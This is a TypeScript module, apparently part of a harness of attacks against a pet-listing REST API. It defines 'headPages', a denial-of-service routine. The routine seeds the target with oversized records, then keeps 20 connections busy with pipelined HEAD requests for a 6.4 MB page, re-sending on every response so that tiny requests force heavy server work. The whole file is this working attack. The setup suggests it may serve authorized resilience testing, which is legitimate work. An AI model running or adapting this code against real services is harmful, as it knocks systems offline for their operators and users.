import { addHugeAnimals } from './add-huge-animals.ts';
import type { Attack } from './attack.ts';
import { countResponses, withSockets } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

const connections = 20;

/** Asks on each of 20 connections for the headers of a page of 6.4 MB, again and again: 200 bytes sent, none wasted. */
export const headPages: Attack = (target) =>
  withSockets(target, async (sockets) => {
    await addHugeAnimals(sockets, target.apiKey, 100);
    const head = request('HEAD /v1/pets?limit=100&status=sold', [bearer(target.apiKey)]);
    await Promise.all(
      Array.from({ length: connections }, async () => {
        const socket = await sockets.open();
        socket.on('data', (chunk) => socket.write(head.repeat(countResponses(chunk))));
        socket.write(head);
      }),
    );
    await sockets.untilOver();
  });
